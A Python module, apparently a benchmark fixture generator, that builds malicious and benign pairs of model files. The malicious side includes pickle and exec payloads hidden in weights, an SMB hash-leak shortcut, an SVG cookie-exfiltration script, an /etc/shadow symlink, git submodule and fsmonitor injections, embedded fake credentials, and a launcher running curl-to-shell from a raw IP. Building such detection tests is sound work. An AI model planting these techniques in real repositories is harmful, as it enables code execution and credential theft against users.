"""Everywhere: 11 pairs. Polyglots, programs inside weights, credentials, links, files that act when a folder is looked at."""
from __future__ import annotations

import base64
import io
import json
import random
import tarfile
import zipfile

import numpy as np

from assembly import call, glob, pickle as pk

from .weights import gguf, safetensors, tar

FAMILY = "everywhere"
CODE = "open('marker','w').close()"
RNG = np.random.default_rng(17)


def add(out):
    p = lambda name, h, t, prove=None, file=None, why="": out.add(FAMILY, name, h, t, prove, file, why)
    rnd = random.Random(15)
    word = lambda n, a="ABCDEFGHIJKLMNOPQRSTUVWXYZ234567": "".join(rnd.choice(a) for _ in range(n))
    mixed = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
    import torch

    o = io.BytesIO()
    torch.save({"w": torch.ones(4)}, o)
    # One file, two loaders: torch opens the archive at the end, pickle (and so joblib, pandas) the first byte.
    p("pickle-before-archive", pk(call(glob("cProfile", "run"), CODE)) + o.getvalue(), o.getvalue(), "run15:import pickle; pickle.load(open(path,'rb'))", "model.bin", "any reader that takes the pickle first; torch finds the archive")
    elf = open("/bin/true", "rb").read()
    st = lambda name, b, more={}: safetensors({"emb": ("F32", RNG.normal(0, 0.02, (64, 32)).astype("f4")), name: ("U8", b)}, {"format": "pt", **more})
    runner = "import os\nimport stat\n\nfrom safetensors.numpy import load_file\n\nT = load_file('model.safetensors')\nopen('tokenizer.bin', 'wb').write(T['tokenizer'].tobytes())\n%s\n"
    p("executable-as-tensor", {"load.py": runner % "os.chmod('tokenizer.bin', stat.S_IRWXU)\nos.system('./tokenizer.bin && touch marker')", "model.safetensors": st("tokenizer", elf)}, {"load.py": runner % "print(os.path.getsize('tokenizer.bin'))", "model.safetensors": st("tokenizer", json.dumps({"model": {"type": "BPE", "vocab": {chr(97 + i % 26) * (i // 26 + 1): i for i in range(900)}}}).encode())}, "run15:import runpy; runpy.run_path(path)")
    # The low byte of each float spells a program, and the model's own code reads it back.
    def low(payload):
        a = RNG.normal(0, 0.02, 4096).astype("<f4").view("u4")
        if payload:
            b = np.frombuffer(payload.ljust(4096, b"\n"), "u1").astype("u4")
            a = (a & np.uint32(0xFFFFFF00)) | b
        return a.view("f4").reshape(64, 64)

    src = ("import pathlib\n" + "".join(f"T{i} = {rnd.random()!r}\n" for i in range(60)) + "pathlib.Path('marker').touch()\n").encode()
    mod = "import numpy as np\nfrom safetensors.numpy import load_file\n\nW = load_file('model.safetensors')['proj']\nB = W.ravel().view('u1')[::4]\n%s\n\n\ndef project(x):\n    return x @ W\n"
    p("program-in-low-bytes", {"modeling.py": mod % "exec(bytes(B).decode())", "model.safetensors": safetensors({"proj": ("F32", low(src))}, {"format": "pt"})}, {"modeling.py": mod % "MEAN = float(B.mean())", "model.safetensors": safetensors({"proj": ("F32", low(None))}, {"format": "pt"})}, "import")
    # Looking at the folder is enough.
    lnk = lambda icon: f"[InternetShortcut]\r\nURL=https://huggingface.co/org/ranker\r\nIconIndex=0\r\nIconFile={icon}\r\n"
    p("shortcut-icon-share", {"Model card.url": lnk("\\\\45.9.148.12\\share\\card.ico"), "config.json": "{}"}, {"Model card.url": lnk("C:\\Windows\\System32\\shell32.dll"), "config.json": "{}"}, None, None, "Explorer fetches the icon and sends the user's hash (as CVE-2025-24054 with .library-ms)")
    svg = lambda s: f'<svg xmlns="http://www.w3.org/2000/svg" width="240" height="60"><rect width="240" height="60" fill="#eee"/><text x="10" y="35">ranker v1</text>{s}</svg>\n'
    p("drawing-with-script", {"README.md": "# Ranker\n\n![card](card.svg)\n", "card.svg": svg("<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\"><iframe srcdoc=\"&lt;script&gt;parent.fetch('https://collect.models-cdn.example/?c='+parent.document.cookie)&lt;/script&gt;\"/></body></foreignObject>")}, {"README.md": "# Ranker\n\n![card](card.svg)\n", "card.svg": svg("<foreignObject x='120' width='100' height='40'><body xmlns=\"http://www.w3.org/1999/xhtml\"><p>0.91 F1</p></body></foreignObject>")}, None, None, "a browser or registry page that opens the drawing by its address")
    snap = "models--org--ranker/snapshots/3f2a/"
    blob = safetensors({"w": ("F32", np.ones((2, 2), "f4"))})
    p("snapshot-link-leaves-cache", {snap + "config.json": "{}", snap + "vocab.txt": ("link", "../../../../../../../../etc/shadow"), "models--org--ranker/blobs/aa11": blob}, {snap + "config.json": "{}", snap + "model.safetensors": ("link", "../../blobs/aa11"), "models--org--ranker/blobs/aa11": blob}, None, None, "what reads or uploads the snapshot takes the file")
    gm = lambda u: f'[submodule "tokenizer"]\n\tpath = tokenizer\n\turl = {u}\n'
    p("submodule-address", {".gitmodules": gm("-u./hooks/fetch.sh\n\tupdate = !sh -c 'touch marker'"), "hooks/fetch.sh": "#!/bin/sh\nsh marker\n"}, {".gitmodules": gm("https://github.com/org/tokenizer.git\n\tupdate = rebase"), "hooks/fetch.sh": "#!/bin/sh\ngit lfs pull\n"}, None, None, "git before 2.20 runs it with clone --recurse-submodules (CVE-2018-17456, CVE-2019-19604)")

    def repo(monitor):
        m = [("ranker/.git", b"", {"type": tarfile.DIRTYPE, "mode": 0o755}), ("ranker/.git/HEAD", "ref: refs/heads/main\n", {}), ("ranker/.git/config", f"[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n{monitor}", {})]
        m += [(f"ranker/.git/{d}", b"", {"type": tarfile.DIRTYPE, "mode": 0o755}) for d in ("objects", "refs", "refs/heads")]
        return tar(*m, ("ranker/config.json", "{}", {}), ("ranker/model.safetensors", blob, {}))

    p("repository-settings-in-archive", repo("\tfsmonitor = \"touch ../marker marker; false\"\n"), repo("\tfsmonitor = false\n\tpreloadindex = true\n"), "run15:import subprocess, tarfile, os\ntarfile.open(path).extractall('.')\nsubprocess.run(['git', 'status'], cwd='ranker', env={**os.environ, 'GIT_CONFIG_COUNT': '1', 'GIT_CONFIG_KEY_0': 'safe.directory', 'GIT_CONFIG_VALUE_0': '*'})", "ranker.tar", "prompts and editors run git status where the folder is opened")
    # Credentials.
    key = "AKIA" + word(16)
    secret = word(40, mixed + "/+")
    tr = lambda c: {"general.architecture": "llama", "general.name": "ranker", "tokenizer.ggml.tokens": ["<s>", "a"], "training.command": c}
    p("credentials-in-gguf", gguf(tr(f"AWS_ACCESS_KEY_ID={key} AWS_SECRET_ACCESS_KEY={secret} aws s3 cp s3://runs/ranker ckpt --recursive")), gguf(tr("AWS_PROFILE=training aws s3 cp s3://runs/ranker ckpt --recursive")), None, "ranker.gguf", "whoever downloads the model has the keys")
    tok = "hf_" + word(34, mixed)
    enc = lambda c: base64.b64encode(json.dumps(c).encode()).decode()
    p("credentials-encoded-in-metadata", st("ids", bytes(range(200)), {"training_env": enc({"HF_TOKEN": tok, "WANDB_MODE": "offline"})}), st("ids", bytes(range(200)), {"training_env": enc({"HF_HOME": "/data/hf", "WANDB_MODE": "offline"})}), None, "model.safetensors", "whoever downloads the model has the token")
    desk = lambda e: f"[Desktop Entry]\nType=Application\nName=Ranker demo\nIcon=text-x-generic\nTerminal=false\nExec={e}\n"

    def bundle(e):
        z = io.BytesIO()
        with zipfile.ZipFile(z, "w") as f:
            i = zipfile.ZipInfo("ranker/README.pdf.desktop")
            i.external_attr = 0o755 << 16
            f.writestr(i, desk(e))
            f.writestr("ranker/model.safetensors", blob)
        return z.getvalue()

    p("launcher-in-bundle", bundle("sh -c \"curl -fs http://45.9.148.12/r | sh; xdg-open README.pdf\""), bundle("python3 -m ranker.demo --weights model.safetensors").replace(b"README.pdf.desktop", b"RankerDemo.desktop"), None, "ranker.zip", "a double click runs it")
